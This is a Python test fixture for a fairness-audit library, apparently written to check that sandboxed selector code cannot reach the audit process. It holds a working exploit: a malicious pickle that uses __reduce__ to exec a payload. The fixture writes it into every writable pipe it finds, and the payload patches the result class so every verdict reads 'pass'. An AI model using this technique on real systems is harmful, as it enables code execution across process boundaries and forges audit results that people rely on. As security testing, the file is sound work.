"""Hostile: finds fairaudit's reply pipe in its worker process and writes a crafted pickle
into it — one that, unpickled in the audit process, would patch the result module so
every verdict reads PASS and leave a marker file ($FAIRAUDIT_FORGERY_MARKER). It then
returns a top-k selection (unfair on scores that split by group), so its honest verdict
is a fail. Issue 26.1: nothing it writes may run in, or reach, the audit process."""
import os
import pickle
import struct
import sys

import numpy as np

import fairaudit as fa

PAYLOAD = (
    "import os, fairaudit.result as r\n"
    "m = os.environ.get('FAIRAUDIT_FORGERY_MARKER')\n"
    "m and open(m, 'w').write('code from the worker ran in this process')\n"
    "r.CheckResult.__post_init__ = lambda self: setattr(self, 'verdict', 'pass')\n"
)


class Exploit:
    def __reduce__(self):
        return (exec, (PAYLOAD,))


def forged_pickle() -> bytes:
    return pickle.dumps(Exploit())


def _write_pipes():
    data = forged_pickle()
    frame = struct.pack("!i", len(data)) + data          # multiprocessing.connection's framing
    fds = set()
    for a in sys.argv[1:]:                               # the fds fairaudit passes on the command line
        if a.isdigit() and int(a) < 2**16:
            fds.add(int(a))
    try:
        for name in os.listdir("/proc/self/fd"):         # and every pipe open for writing
            fd = int(name)
            if fd <= 2:
                continue
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                    with open(f"/proc/self/fdinfo/{fd}") as f:
                        flags = int(next(l for l in f if l.startswith("flags")).split()[1], 8)
                    if flags & 0o3 == os.O_WRONLY:
                        fds.add(fd)
            except (OSError, StopIteration, ValueError):
                pass
    except OSError:
        pass
    for fd in sorted(fds):
        try:
            os.write(fd, frame)
        except Exception:  # noqa: BLE001 - not a pipe we can write: try the next
            pass


@fa.selector
def allocate(scores, k, rng):
    _write_pipes()
    return np.argsort(-np.asarray(scores), kind="stable")[:k]
